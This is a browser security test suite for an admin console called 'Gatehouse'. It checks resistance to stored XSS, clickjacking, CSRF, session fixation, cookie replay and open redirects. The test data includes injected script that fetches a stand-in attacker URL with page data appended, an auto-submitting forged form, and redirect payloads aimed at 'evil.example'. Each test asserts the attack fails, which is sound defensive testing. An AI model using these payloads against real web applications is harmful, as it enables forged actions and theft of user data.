// Attacks on people in the console, as a real browser meets them, and on its API without one.

import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { startAttacker, type Attacker } from './attacker.ts'
import { hasOpenssl, makeCertificate } from './certificate.ts'
import { hasChromium, openChromium, sitDown } from './chromium.ts'
import { enterConsole, MARKUP, startConsoleWorld } from './console-world.ts'
import { startHost } from './host.ts'
import { signIn, TICKET_SECRET, type BrowserWorld } from './world.ts'

const COOKIE = 'gatehouse-console'

describe.skipIf(!hasChromium)('the console under attack, in Chromium', () => {
  let world: BrowserWorld
  let chromium: Browser
  let attacker: Attacker
  let context: BrowserContext
  let page: Page
  beforeAll(async () => {
    ;[world, chromium, attacker] = await Promise.all([startConsoleWorld(), openChromium(), startAttacker()])
  })
  afterAll(async () => {
    await chromium.close()
    await attacker.close()
    await world.stop()
  })
  beforeEach(async () => {
    context = await sitDown(chromium)
    page = await context.newPage()
    attacker.asked.length = 0
  })
  afterEach(() => context.close())

  /** What the browser would send. */
  const cookieOf = async (of = context, name = COOKIE): Promise<string> =>
    (await of.cookies(world.url)).find(cookie => cookie.name === name)?.value ?? ''
  const ask = async (name: string, headers: Record<string, string>, method = 'GET'): Promise<[number, string]> => {
    const answer = await fetch(`${world.url}/console/api/${name}`, {
      method,
      headers,
      ...(method === 'POST' && { body: headers['body'] ?? '{}' }),
    })
    const said = (await answer.json()) as { error?: { reason: string } }
    return [answer.status, said.error?.reason ?? 'ok']
  }
  const SIGNED_OUT = [401, 'console-signed-out']
  const FORGED = [403, 'console-forged']
  /** Alice has a connection that could be revoked in her name. */
  const connected = async (): Promise<void> => {
    await enterConsole(page, world, 'alice', '/connections')
    await page.goto(`${world.url}/connections`)
    const field = page.getByLabel('Your secret for')
    if ((await field.count()) > 0) {
      await field.fill(TICKET_SECRET)
      await page.getByRole('button', { name: 'Save' }).click()
    }
  }
  const isConnected = async (): Promise<boolean> => {
    await page.goto(`${world.url}/console/connections`)
    await page.locator('h1').waitFor()
    return (await page.getByRole('button', { name: /Revoke Ticket system/ }).count()) === 1
  }

  it('stored XSS through a tool’s name and description: markup is text, runs nothing and loads nothing', { tags: ['short'] }, async () => {
    await enterConsole(page, world, 'alice', '/servers/billing')
    await page.locator('.fold').first().waitFor()
    expect(await page.locator('main').innerText()).toContain(MARKUP.replaceAll('"', '\\"'))
    expect(await page.evaluate('window.ran')).toBeUndefined()
    expect(await page.locator('main img, main script').count()).toBe(0)
  })

  it('a script that got in all the same can make no markup of text, no script element, and no code of strings', async () => {
    await enterConsole(page, world, 'alice', '/servers')
    const tried = await page.evaluate<string[]>(`[
      () => (document.body.innerHTML = '<b>x</b>'),
      () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
      () => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.head.append(s) },
      () => { const s = document.createElement('script'); s.src = '${attacker.url}'; document.head.append(s) },
      () => trustedTypes.createPolicy('mine', { createHTML: x => x }),
    ].map(attempt => { try { attempt(); return 'done' } catch (error) { return error.name } })`)
    expect(tried).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError', 'TypeError'])
    expect(await page.evaluate('window.ran')).toBeUndefined()
    const sent = await page.evaluate(`fetch('${attacker.url}?' + document.title).then(() => 'sent', () => 'refused')`)
    expect([sent, attacker.asked]).toEqual(['refused', []])
  })

  it('clickjacking: the console in a frame of another page shows nothing', async () => {
    await enterConsole(page, world, 'alice')
    attacker.html = `<iframe src="${world.url}/console/servers"></iframe>`
    const trap = await context.newPage()
    await trap.goto(attacker.url)
    await expect.poll(() => trap.frames()[1]?.url()).toMatch(/^chrome-error:/)
    expect(await trap.frames()[1]!.content()).not.toContain('Gatehouse')
  })

  it(
    'CSRF: a form of another page of the same site is refused, though the cookie goes along, and changes nothing',
    { tags: ['short'] },
    async () => {
      await connected()
      attacker.html = `<form method="post" enctype="text/plain" action="${world.url}/console/api/connections/revoke">
      <input name='{"connection":"tickets","x":"' value='"}'></form><script>document.forms[0].submit()</script>`
      const trap = await context.newPage()
      const answered = trap.waitForResponse(response => response.request().method() === 'POST')
      await trap.goto(attacker.url)
      const response = await answered
      expect((await response.request().allHeaders())['cookie']).toContain(`${COOKIE}=`)
      expect([response.status(), await response.json()]).toMatchObject([403, { error: { data: { reason: 'origin-forbidden' } } }])
      expect(await isConnected()).toBe(true)
    },
  )

  it('CSRF: not even with the right body, type and token, where another page sends it; nor can it read anything', async () => {
    await connected()
    const { csrf } = (await (await page.request.get(`${world.url}/console/api/session`)).json()) as { csrf: string }
    const trap = await context.newPage()
    attacker.html = '<title>trap</title>'
    await trap.goto(attacker.url)
    const tried = await trap.evaluate<string[]>(`Promise.all([
      fetch('${world.url}/console/api/connections/revoke', { method: 'POST', credentials: 'include', body: '{"connection":"tickets"}',
        headers: { 'Content-Type': 'application/json', 'X-Gatehouse-Csrf': '${csrf}' } }),
      fetch('${world.url}/console/api/session', { credentials: 'include' }),
    ].map(answer => answer.then(() => 'answered', () => 'kept away')))`)
    expect(tried).toEqual(['kept away', 'kept away'])
    expect(await isConnected()).toBe(true)
  })

  it('attack: an answer of the API opened as a page, or taken in as a script of another page, is text and no more', async () => {
    const { headers } = await fetch(`${world.url}/console/api/session`)
    expect(Object.fromEntries(headers)).toMatchObject({
      'content-type': 'application/json',
      'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
      'cross-origin-resource-policy': 'same-origin',
      'x-content-type-options': 'nosniff',
    })
  })

  it('CSRF: without the token of this very session an act is refused, wherever it seems to come from', async () => {
    await connected()
    const bob = await sitDown(chromium)
    const other = await bob.newPage()
    await enterConsole(other, world, 'bob', '/connections')
    const { csrf } = (await (await other.request.get(`${world.url}/console/api/session`)).json()) as { csrf: string }
    const mine = {
      cookie: `${COOKIE}=${await cookieOf()}`,
      origin: world.url,
      'content-type': 'application/json',
      body: '{"connection":"tickets"}',
    }
    expect(await ask('connections/revoke', mine, 'POST')).toEqual(FORGED)
    expect(await ask('connections/revoke', { ...mine, 'x-gatehouse-csrf': csrf }, 'POST')).toEqual(FORGED)
    expect(await ask('connections/revoke', { cookie: mine.cookie, body: mine.body, 'content-type': 'application/json' }, 'POST')).toEqual(
      FORGED,
    )
    expect(await ask('sign-out', mine, 'POST')).toEqual(FORGED)
    expect(await ask('session', { cookie: mine.cookie, 'sec-fetch-site': 'same-site' })).toEqual(FORGED)
    expect(await ask('session', { cookie: mine.cookie, 'sec-fetch-site': 'none' })).toEqual(FORGED)
    expect(await isConnected()).toBe(true)
    await bob.close()
  })

  it('session fixation: a cookie that somebody planted is nobody’s session, and signing in makes another one', async () => {
    const planted = 'A'.repeat(43)
    await context.addCookies([{ name: COOKIE, value: planted, url: world.url }])
    await page.goto(`${world.url}/console`)
    await page.getByRole('link', { name: 'Sign in' }).waitFor()
    await enterConsole(page, world, 'alice')
    const value = await cookieOf()
    expect(value).not.toBe(planted)
    expect(await ask('session', { cookie: `${COOKIE}=${planted}` })).toEqual(SIGNED_OUT)
    expect(await ask('session', { cookie: `${COOKIE}=${value}` })).toEqual([200, 'ok'])
    // Two of the name: somebody else put one in.
    expect(await ask('session', { cookie: `${COOKIE}=${planted}; ${COOKIE}=${value}` })).toEqual(SIGNED_OUT)
  })

  it('session fixation: entering again ends the session that was there before', async () => {
    await enterConsole(page, world, 'alice')
    const before = await cookieOf()
    await page.goto(`${world.url}/console/enter`)
    await page.locator('header').waitFor()
    expect(await ask('session', { cookie: `${COOKIE}=${before}` })).toEqual(SIGNED_OUT)
  })

  it('a cookie replayed after signing out opens nothing', async () => {
    await enterConsole(page, world, 'alice')
    const cookie = `${COOKIE}=${await cookieOf()}`
    expect(await ask('session', { cookie })).toEqual([200, 'ok'])
    await page.getByRole('button', { name: 'Sign out' }).click()
    await page.getByRole('heading', { name: 'You are signed out' }).waitFor()
    expect(await ask('session', { cookie })).toEqual(SIGNED_OUT)
    expect(await ask('connections/list', { cookie })).toEqual(SIGNED_OUT)
  })

  it('the session of consent and connections is none of the console, a host’s token opens none, and no act of other roles is there', async () => {
    await page.goto(`${world.url}/connections`)
    await signIn(page, 'alice')
    const value = await cookieOf(context, 'gatehouse')
    expect(value).toMatch(/^[A-Za-z0-9_-]{43}$/)
    expect(await ask('session', { cookie: `${COOKIE}=${value}` })).toEqual(SIGNED_OUT)
    const host = await startHost(`${world.url}/mcp`)
    await page.goto(host.signInUrl)
    await page.getByRole('button', { name: 'Allow', exact: true }).click()
    await page.waitForURL(url => url.pathname === '/callback')
    await host.finish()
    expect(await ask('session', { authorization: `Bearer ${host.token}` })).toEqual(SIGNED_OUT)
    await host.close()
    await enterConsole(page, world, 'alice')
    const { csrf } = (await (await page.request.get(`${world.url}/console/api/session`)).json()) as { csrf: string }
    const mine = {
      cookie: `${COOKIE}=${await cookieOf()}`,
      origin: world.url,
      'content-type': 'application/json',
      'x-gatehouse-csrf': csrf,
    }
    // Alice is an operator; her session in the console is not.
    for (const act of ['block', 'keys/rotate', 'proposals/approve', 'break-glass/open', 'registry/revoke'])
      expect([act, ...(await ask(act, mine, 'POST'))]).toEqual([act, 404, 'path-unknown'])
  })

  it.each(['//evil.example', '/servers/..%2f..', '/servers/a/b', '/\\evil.example', '?return=//evil.example'])(
    'an open redirect: `/console/enter%s` leads to no other place',
    async rest => {
      await enterConsole(page, world, 'alice')
      await page.goto(`${world.url}/console/enter${rest}`)
      expect(new URL(page.url()).origin).toBe(world.url)
    },
  )
})

describe.skipIf(!hasChromium || !hasOpenssl)('the console over https, in Chromium', () => {
  let certificate: ReturnType<typeof makeCertificate>
  let world: BrowserWorld
  let chromium: Browser
  beforeAll(async () => {
    certificate = makeCertificate()
    ;[world, chromium] = await Promise.all([startConsoleWorld({ tls: { cert: certificate.cert, key: certificate.key } }), openChromium()])
  })
  afterAll(async () => {
    await chromium.close()
    await world.stop()
    certificate.remove()
  })

  it('the session is a `__Host-` cookie: Secure, HttpOnly, SameSite=Strict, no longer than a working day; one under the plain name is nobody', async () => {
    const context = await sitDown(chromium, { ignoreHTTPSErrors: true })
    const page = await context.newPage()
    await enterConsole(page, world, 'alice')
    const session = (await context.cookies(world.url)).find(({ name }) => name.endsWith('gatehouse-console'))
    expect(session).toMatchObject({
      name: '__Host-gatehouse-console',
      secure: true,
      httpOnly: true,
      sameSite: 'Strict',
      path: '/',
      domain: '127.0.0.1',
    })
    expect(session!.expires - Date.now() / 1000).toBeLessThanOrEqual(8 * 3600)
    await context.clearCookies()
    await context.addCookies([{ name: 'gatehouse-console', value: session!.value, url: world.url }])
    await page.goto(`${world.url}/console`)
    await page.getByRole('link', { name: 'Sign in' }).waitFor()
    await context.close()
  })
})
